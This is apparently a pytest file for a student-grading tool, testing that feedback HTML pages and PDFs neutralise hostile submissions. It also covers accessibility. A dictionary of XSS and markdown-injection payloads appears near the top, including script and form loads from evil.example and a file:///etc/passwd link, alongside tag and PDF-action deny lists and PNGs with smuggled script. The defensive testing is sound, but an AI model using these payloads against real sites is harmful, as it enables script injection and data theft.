"""What a student wrote, and what their cells showed, appears on the page and does nothing there."""

import base64
import json
import re
import zlib
from dataclasses import replace

import pytest

from labkit.grading import feedback, feedback_pdf, shown
from labkit.grading.marks import Mark
from labkit.grading.shown import Shown
from tests.grading.accessibility import Page, contrast, problems
from tests.grading.test_feedback import HOSTILE, result

_ACTING = {
    *(
        "script",
        "iframe",
        "object",
        "embed",
        "form",
        "svg",
        "math",
        "base",
        "link",
        "video",
        "audio",
        "input",
    ),
    *(
        "button",
        "template",
        "applet",
        "frame",
        "frameset",
        "marquee",
        "noscript",
        "portal",
        "textarea",
        "select",
    ),
}

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "script cut in two": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "handler": "<b onmouseover=alert(1)>x</b> <details open ontoggle=alert(1)>",
    "image": "<img src=x onerror=alert(1)>",
    "remote image": "![p](https://evil.example/p.png)",
    "remote image by reference": "![p][r]\n\n[r]: https://evil.example/p.png",
    "image in a link": "[![p](https://evil.example/p.png)](javascript:alert(1))",
    "attachment": "![p](attachment:p.svg)",
    "data picture": "![p](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "javascript link": "[x](javascript:alert(1))",
    "javascript link in entities": "[x](&#106;avascript&colon;alert(1)) [y](&#x6A;&#x61;vascript:alert(1))",
    "javascript link with breaks": "[x](<java\tscript:alert(1)>) [y](JaVaScRiPt:alert(1)) [z](\x01javascript:alert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript and file": "[x](vbscript:msgbox) [y](file:///etc/passwd) [z](blob:x)",
    "link that leaves its attribute": '[x](https://a.example/"onmouseover="alert(1)) [y](https://a.example \'"><script>\')',
    "reference": "[x]\n\n[x]: javascript:alert(1) \"t\"",
    "style": "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "style attribute": '<p style="background:url(https://evil.example/p.png)">x</p>',
    "svg": "<svg onload=alert(1)><animate onbegin=alert(1)><use href='https://evil.example#x'/></svg>",
    "math": "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "frames": "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "form": "<form action=https://evil.example><input name=a autofocus onfocus=alert(1)></form>",
    "base and meta": "<base href=https://evil.example><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "link element": "<link rel=stylesheet href=https://evil.example/x.css>",
    "comment": "<!--><script>alert(1)</script>--> <![CDATA[<script>alert(1)</script>]]>",
    "end of the page": "</div></section></main></body></html><script>alert(1)</script>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "code": "```html\n</code></pre><script>alert(1)</script>\n```\n\n`</code><script>alert(1)</script>`",
    "fence with a language": '```"><script>alert(1)</script>\nx\n```',
    "table": "| <script>alert(1)</script> | b |\n|---|---|\n| ![p](//evil.example/p.png) | <img src=x> |",
    "template": "{{ 7 * 7 }} {% for x in y %} ${7*7} <%= 7 %>",
    "null and controls": "<scr\x00ipt>alert(1)</scr\x00ipt> \ufeff<script\x0b>alert(1)</script>",
    "direction": "right\u202eevil\u2066",
}  # fmt: skip


def is_inert(html):
    page = Page(html)
    assert not page.names & _ACTING, page.names & _ACTING
    assert html.count("<style") == 1
    for element in page.elements:
        attributes = element["attributes"]
        assert not [name for name in attributes if name.startswith("on")], element
        assert "style" not in attributes, element
        assert not {"srcset", "srcdoc", "background", "action", "formaction", "poster", "ping"} & set(
            attributes
        )
        if "href" in attributes:
            assert element["name"] == "a"
            assert re.match(r"(?i)(https?://|#)", attributes["href"]), attributes
        if "src" in attributes:
            assert element["name"] == "img"
            assert attributes["src"].startswith("data:image/png;base64,")
        if element["name"] == "meta":
            assert attributes.get("http-equiv", "Content-Security-Policy") == "Content-Security-Policy"
    policy = next(e["attributes"]["content"] for e in page.all("meta") if "http-equiv" in e["attributes"])
    assert policy.split("; ") == ["default-src 'none'", "style-src 'unsafe-inline'", "img-src data:"]
    assert len(page.all("main")) == len(page.all("body")) == 1


def test_the_check_knows_what_acts():
    good = feedback.inert("[x](https://a.example)")
    page = "<html><head><meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'; img-src data:\"><style></style></head><body><main>{}</main></body></html>"
    is_inert(page.format(good))
    for bad in (
        "<script>",
        "<img src=x>",
        "<a href='javascript:x'>",
        "<p onclick=x>",
        "<svg>",
        "<p style='x'>",
    ):
        with pytest.raises(AssertionError):
            is_inert(page.format(bad))


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_in_every_place_of_a_submission_is_inert(mini, criteria, name):
    attack = ATTACKS[name]
    hostile = replace(
        result(mini, text=f"{attack}\n\n{attack}", extra={"mini-research": attack}), student=attack
    )
    questions = [replace(q, why=attack, error=attack) if q.id == "q3" else q for q in hostile.questions]
    marks = {("ana", "q1-why"): Mark("ana", "q1-why", {}, attack)}
    cell = {"outputs": [
        {"output_type": "stream", "name": "stdout", "text": attack},
        {"output_type": "error", "ename": attack, "evalue": attack, "traceback": [attack]},
        {"output_type": "execute_result", "data": {"text/plain": attack, "text/html": attack, "text/markdown": attack,
            "image/svg+xml": attack, "application/javascript": attack, "text/latex": attack}},
    ]}  # fmt: skip
    html = feedback.page(
        replace(hostile, questions=tuple(questions)), mini, criteria, marks, seen={"mini-q3": shown.of(cell)}
    )
    is_inert(html)
    assert problems(html) == []


def test_what_a_cell_showed_is_on_the_page_as_text():
    html_table = {"text/plain": "   n\n0  1", "text/html": "<table><tr><td>1</td></tr></table>"}
    cell = {"outputs": [
        {"output_type": "stream", "name": "stdout", "text": ["one\n", "\x1b[31mtwo\x1b[0m\x07\n"]},
        {"output_type": "display_data", "data": html_table},
        {"output_type": "error", "ename": "KeyError", "evalue": "'x'", "traceback": ["a", "b"]},
    ]}  # fmt: skip
    assert shown.of(cell) == Shown("one\ntwo\n   n\n0  1\nKeyError: 'x'")


def test_long_outputs_are_cut():
    assert len(shown.plain("x" * 10_000_000)) == shown.MOST_TEXT + 1


def chunk(kind, data):
    return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")


def png(width=2, height=2, extra=b"", tail=b"", body=None):
    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x00\x00\x00\x00"
    rows = zlib.compress(b"".join(b"\x00" + b"\x80" * min(width, 50) for _ in range(min(height, 50))))
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + extra
        + chunk(b"IDAT", rows if body is None else body) + chunk(b"IEND", b"") + tail
    )  # fmt: skip


def encoded(data):
    return base64.b64encode(data).decode()


def test_a_picture_is_kept_and_what_is_hidden_in_it_is_not():
    loaded = png(extra=chunk(b"tEXt", b"Comment\x00<script>"), tail=b"<script>alert(1)</script>")
    assert shown.bare_png(encoded(png())) == png()
    assert shown.bare_png(encoded(loaded)) == png()


@pytest.mark.parametrize(
    "data",
    [
        encoded(png(100_000, 100_000)), encoded(png(0, 5)), encoded(png()[:-20]), encoded(png()[:-4] + b"xxxx"),
        encoded(b"<svg onload=alert(1)>"), encoded(b"GIF89a"), "not base64!", "https://evil.example/p.png", "", None, 7,
        encoded(png(body=b"\x00" * 400_000)), encoded(chunk(b"IDAT", b"") + png()), encoded(png()[:8]),
    ],
)  # fmt: skip
def test_what_is_no_picture_or_too_large_a_one_is_not_shown(data):
    assert shown.bare_png(data) is None


def test_pictures_of_a_page_have_descriptions_and_are_few(mini, criteria):
    outputs = [
        {"output_type": "display_data", "data": {"image/png": encoded(png()), "text/plain": "<Figure>"}}
    ] * 9
    seen = {"mini-q3": shown.of({"outputs": outputs})}
    assert len(seen["mini-q3"].pictures) == shown.MOST_PICTURES
    html = feedback.page(result(mini), mini, criteria, {}, seen=seen)
    is_inert(html)
    assert problems(html) == []
    assert len(Page(html).all("img")) == shown.MOST_PICTURES


# --- accessibility ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["en", "pt-BR"])
@pytest.mark.parametrize(
    "text", ["A text [1].", HOSTILE, "# a\n\n#### b\n\n| a |\n|---|\n| b |\n\n1. x\n2. y"]
)
def test_the_page_is_accessible(mini, criteria, lang, text):
    marked = {("ana", "q1-why"): Mark("ana", "q1-why", {"evidence": 1.0, "reasoning": 4.0}, text)}
    from labkit.grading import marks as marking

    whole = marking.apply(result(mini, text=text, extra={"mini-research": text}), marked, criteria)
    assert problems(feedback.page(whole, mini, criteria, marked, lang, seen={"mini-q3": Shown("7")})) == []


def test_the_page_of_what_could_not_be_graded_is_accessible(mini, criteria):
    assert problems(feedback.page(replace(result(mini), graded=False), mini, criteria, {})) == []


@pytest.mark.parametrize(
    ("found", "instead", "problem"),
    [
        ('lang="en"', "", "language"), ("<main>", "<div>", "main"), ("<h3>", "<h4>", "level"), ('scope="col"', "", "scope"),
        ("#4a4a4a", "#aaaaaa", "contrast"), ("</title>", "</title><title></title>", ""), ('id="q2"', 'id="q1"', "twice"),
    ],
)  # fmt: skip
def test_the_check_finds_what_is_wrong(mini, criteria, found, instead, problem):
    html = feedback.page(result(mini), mini, criteria, {})
    assert found in html
    broken = html.replace(found, instead)
    assert not problem or any(problem in each for each in problems(broken)), problems(broken)


def test_contrast_is_that_of_the_guidelines():
    assert contrast("#000", "#fff") == pytest.approx(21)
    assert contrast("#777777", "#ffffff") == pytest.approx(4.48, abs=0.01)  # the known near miss


def test_no_meaning_is_in_a_colour_alone(mini, criteria):
    """Every box whose colour tells a verdict says it in words too."""
    verdicts = [e["text"] for e in Page(feedback.page(result(mini), mini, criteria, {})).all("p")
                if "verdict" in (e["attributes"].get("class") or "")]  # fmt: skip
    assert len(verdicts) == len(mini.questions)
    assert all(re.match("correct|partly correct|not answered|awaiting", text) for text in verdicts)


def test_no_key_is_on_the_page(mini, criteria, key):
    """A wrong answer's page does not name the right one."""
    wrong = tuple(
        replace(q, value=["B"], verdict="wrong", points=0.0) if q.kind == "choices" else q
        for q in result(mini).questions
    )
    html = feedback.page(replace(result(mini), questions=wrong), mini, criteria, {})
    assert all(json.dumps(value) not in html for value in key.values.values())
    assert "vnd.labkit.answer" not in html
    assert set(re.findall(r"<li><strong>([A-E])</strong>", html)) == {"B"}


# --- the PDF ----------------------------------------------------------------------------------------------


def test_the_pdf_says_the_same_in_the_same_bytes(mini, criteria):
    seen = {"mini-q3": Shown("print said this", (png(),))}
    one = feedback_pdf.render(result(mini), mini, criteria, {}, seen=seen)
    assert one == feedback_pdf.render(result(mini), mini, criteria, {}, seen=seen)
    assert one.startswith(b"%PDF-")


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_does_not_keep_the_pdf_from_being_made(mini, criteria, name):
    attack = ATTACKS[name] + '\n\n#panic("x") \\ $x$ #read("/etc/passwd") @x <y>'
    hostile = replace(result(mini, text=attack, extra={"mini-research": attack}), student=attack)
    pdf = feedback_pdf.render(hostile, mini, criteria, {}, seen={"mini-q3": Shown(attack)})
    assert pdf.startswith(b"%PDF-")
    for action in (
        b"/JavaScript",
        b"/JS ",
        b"/Launch",
        b"/EmbeddedFile",
        b"/SubmitForm",
        b"/GoToR",
        b"/OpenAction",
    ):
        assert action not in pdf
    assert all(re.match(rb"https?://", address) for address in re.findall(rb"/URI ?\((.*?)\)", pdf))


def test_a_link_of_a_pdf_is_found_by_that_check(mini, criteria):
    linked = replace(result(mini, text="[x](https://a.example/y)"), student="ana")
    assert b"/URI(https://a.example/y)" in feedback_pdf.render(linked, mini, criteria, {}).replace(
        b"/URI (", b"/URI("
    )


def test_a_broken_picture_costs_the_picture_only(mini, criteria):
    broken = png(body=b"no picture")
    assert shown.bare_png(encoded(broken)) == broken
    pdf = feedback_pdf.render(result(mini), mini, criteria, {}, seen={"mini-q3": Shown("", (broken,))})
    assert pdf == feedback_pdf.render(result(mini), mini, criteria, {}, seen={"mini-q3": Shown()})


def test_grading_with_the_option_writes_a_pdf_beside_each_page(mini, criteria, tmp_path):
    from labkit.grading import blind, output

    output.prepare(tmp_path, mini)
    output.write(tmp_path, mini, [result(mini)], criteria, {}, blind.load(tmp_path), pdf=True)
    made = tmp_path / "feedback" / "ana.pdf"
    assert made.read_bytes() == feedback_pdf.render(result(mini), mini, criteria, {})
    # Once there, it follows the page, whether asked for again or not.
    better = replace(result(mini), notes=(), student="ana", language="pt-BR")
    output.write(tmp_path, mini, [better], criteria, {}, blind.load(tmp_path))
    assert made.read_bytes() == feedback_pdf.render(better, mini, criteria, {})
